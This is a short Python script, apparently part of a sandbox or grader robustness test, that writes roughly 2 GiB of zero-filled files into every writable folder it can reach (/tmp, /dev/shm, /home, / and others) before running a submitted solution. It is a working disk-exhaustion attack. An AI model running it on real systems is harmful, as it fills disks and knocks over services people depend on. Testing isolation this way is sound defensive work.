"""Writes files in every writable folder until the disk is full."""

import attack
import solution


def fill():
    written = 0
    for folder in (attack.HERE, *attack.most(["/tmp", "/dev/shm", "/var/tmp", "/run", "/home", "/"], [])):
        try:
            for number in range(40):
                with open(f"{folder}/{attack.CONFIG['mark']}{number}", "wb", buffering=0) as file:
                    for _ in range(50):
                        if written < attack.most(2_000, 100):
                            written += file.write(bytes(attack.MIB)) // attack.MIB
        except OSError as error:
            attack.say(f"{folder}: {error.strerror}")
    attack.say(f"WROTE {written}")


attack.at_first_post(fill)
solution.main()
